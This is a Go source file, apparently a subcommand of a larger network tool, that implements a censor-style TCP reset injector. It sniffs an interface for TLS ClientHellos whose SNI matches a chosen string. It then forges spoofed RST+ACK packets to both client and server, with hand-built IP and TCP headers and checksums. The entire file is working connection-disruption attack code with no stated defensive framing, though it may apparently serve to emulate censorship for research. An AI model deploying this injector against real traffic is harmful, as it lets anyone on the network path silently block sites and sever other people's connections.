package main

import (
	"bytes"
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"syscall"
)

// runInject is an on-path reset injector, like a censor's: it watches
// -iface through an AF_PACKET socket and, when a TLS ClientHello carrying
// -match passes, forges a RST+ACK to the client in the server's name and one
// to the server in the client's name, with TTL 64 and IP ID 0 (the box's own
// stack, not the server's).
func runInject(args []string) error {
	fs := flag.NewFlagSet("inject", flag.ContinueOnError)
	iface := fs.String("iface", "", "interface to watch")
	match := fs.String("match", "", "SNI substring that triggers a reset")
	if err := fs.Parse(args); err != nil {
		return err
	}
	ifi, err := net.InterfaceByName(*iface)
	if err != nil {
		return err
	}
	const ethPIP = 0x0800
	rx, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_DGRAM, int(htons(ethPIP)))
	if err != nil {
		return err
	}
	if err := syscall.Bind(rx, &syscall.SockaddrLinklayer{Protocol: htons(ethPIP), Ifindex: ifi.Index}); err != nil {
		return err
	}
	tx, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return err
	}
	buf := make([]byte, 65536)
	for {
		n, _, err := syscall.Recvfrom(rx, buf, 0)
		if err != nil {
			return err
		}
		p := buf[:n]
		if len(p) < 40 || p[0]>>4 != 4 || p[9] != syscall.IPPROTO_TCP {
			continue
		}
		ihl := int(p[0]&15) * 4
		tcp := p[ihl:]
		off := int(tcp[12]>>4) * 4
		if len(tcp) < off+6 {
			continue
		}
		payload := tcp[off:]
		if payload[0] != 0x16 || payload[5] != 1 || !bytes.Contains(payload, []byte(*match)) {
			continue
		}
		cli, srv := [4]byte(p[12:16]), [4]byte(p[16:20])
		cport, sport := binary.BigEndian.Uint16(tcp[0:]), binary.BigEndian.Uint16(tcp[2:])
		seq, ack := binary.BigEndian.Uint32(tcp[4:]), binary.BigEndian.Uint32(tcp[8:])
		end := seq + uint32(len(payload))
		// Towards the client first: that is the one that must win the race.
		send(tx, rst(srv, cli, sport, cport, ack, end))
		send(tx, rst(cli, srv, cport, sport, end, ack))
		fmt.Printf("reset %v:%d -> %v:%d\n", net.IP(cli[:]), cport, net.IP(srv[:]), sport)
	}
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func send(fd int, pkt []byte) {
	sa := &syscall.SockaddrInet4{Addr: [4]byte(pkt[16:20])}
	if err := syscall.Sendto(fd, pkt, 0, sa); err != nil {
		fmt.Println("send:", err)
	}
}

// rst builds an IPv4 RST+ACK (RFC 9293 3.5.3) from src to dst.
func rst(src, dst [4]byte, sport, dport uint16, seq, ack uint32) []byte {
	p := make([]byte, 40)
	p[0], p[8], p[9] = 0x45, 64, syscall.IPPROTO_TCP
	binary.BigEndian.PutUint16(p[2:], 40)
	copy(p[12:], src[:])
	copy(p[16:], dst[:])
	binary.BigEndian.PutUint16(p[10:], ^sum(p[:20], 0))
	t := p[20:]
	binary.BigEndian.PutUint16(t[0:], sport)
	binary.BigEndian.PutUint16(t[2:], dport)
	binary.BigEndian.PutUint32(t[4:], seq)
	binary.BigEndian.PutUint32(t[8:], ack)
	t[12], t[13] = 5<<4, 0x14
	pseudo := append(append(append([]byte{}, src[:]...), dst[:]...), 0, 6, 0, 20)
	binary.BigEndian.PutUint16(t[16:], ^sum(t, uint32(sum(pseudo, 0))))
	return p
}

func sum(b []byte, s uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		s += uint32(b[len(b)-1]) << 8
	}
	for s>>16 != 0 {
		s = s&0xffff + s>>16
	}
	return uint16(s)
}
